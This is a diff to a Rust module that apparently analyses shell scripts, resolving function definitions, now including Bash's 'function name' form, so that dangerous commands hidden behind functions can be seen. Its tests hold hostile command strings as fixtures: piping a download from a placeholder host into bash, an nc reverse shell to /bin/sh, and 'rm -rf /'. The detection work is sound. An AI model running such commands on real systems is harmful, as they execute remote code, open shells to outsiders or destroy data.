@@ -8,6 +8,8 @@ use std::ops::Range;
 const MAX_FUNCTIONS: usize = 16;
 /// Places where a function's name stands that are looked at.
 const MAX_PLACES: usize = 256;
+/// What may stand before a name.
+const FUNCTION: &[u8] = b"function ";
 const MAX_NAME: usize = 32;
 const MAX_BODY: usize = 2 << 10;
 /// Words of a call: those that have a name of one digit.
@@ -31,9 +33,13 @@ impl Functions {
     /// Those of the functions that `text` defines and calls, each by the first call behind it; and those that `set --` sets.
     pub(super) fn of(text: &[u8]) -> Self {
         let mut calls = Vec::new();
-        for at in memmem::find_iter(text, b"()").take(MAX_FUNCTIONS) {
-            let name = name_before(text[..at].trim_ascii_end());
-            let Some(body) = body(text, at + 2).filter(|_| !name.is_empty()) else { continue };
+        let defined = memmem::find_iter(text, b"()").take(MAX_FUNCTIONS);
+        let defined = defined.map(|at| (name_before(text[..at].trim_ascii_end()), at + 2));
+        // As Bash has it, with no brackets.
+        let by_word = memmem::find_iter(text, FUNCTION).take(MAX_FUNCTIONS);
+        let by_word = by_word.map(|at| name_after(text, at + FUNCTION.len()));
+        for (name, end) in defined.chain(by_word).filter(|(name, _)| !name.is_empty()) {
+            let Some(body) = body(text, end) else { continue };
             if let Some(words) = called(&text[body.end..], name) {
                 calls.push(Call::new(body, words));
             }
@@ -70,6 +76,12 @@ impl Call {
 fn name_before(before: &[u8]) -> &[u8] {
     let name = before.iter().rev().take_while(|b| is_of_name(**b)).count();
     if name > MAX_NAME { &[] } else { &before[before.len() - name..] }
+}
+
+/// The name that begins at `from`, and where it ends.
+fn name_after(text: &[u8], from: usize) -> (&[u8], usize) {
+    let len = text[from..].iter().take(MAX_NAME).take_while(|b| is_of_name(**b)).count();
+    (&text[from..from + len], from + len)
 }
 
 /// What stands between the braces that begin behind `from`, with nothing but blanks between.
@@ -126,6 +138,9 @@ mod tests {
         is("f(){ curl \"$1\" | \"$2\"; }; f https://a.example/i bash", "curl https://a.example/i | bash");
         is("f () {\n  nc $1 $2 -e \"$3\"\n}\necho f\nf 192.0.2.1 4444 '/bin/sh'\n", "nc 192.0.2.1 4444 -e /bin/sh");
         is("wipe(){ rm -rf \"$@\"; }; wipe /", "rm -rf /");
+        is("wipe(){\n  local d=\"$1\"\n  rm -rf \"$d\"\n}\nwipe /\n", "rm -rf /");
+        is("a(){ x=$1; }\nb(){ y=$1; rm -rf $y; }\na /tmp\nb /\n", "rm -rf /");
+        is("function wipe {\n  rm -rf \"$1\"\n}\nwipe /\n", "rm -rf /");
         is("wipe(){ rm -rf ${1} ${2:-x}; }\nwipe / /home", "rm -rf / /home");
         is("f(){ ls $1; }; g(){ rm $1; }; f /tmp; g -rf", "rm -rf");
         is("set -- -rf /\nrm \"$@\"", "rm -rf /");
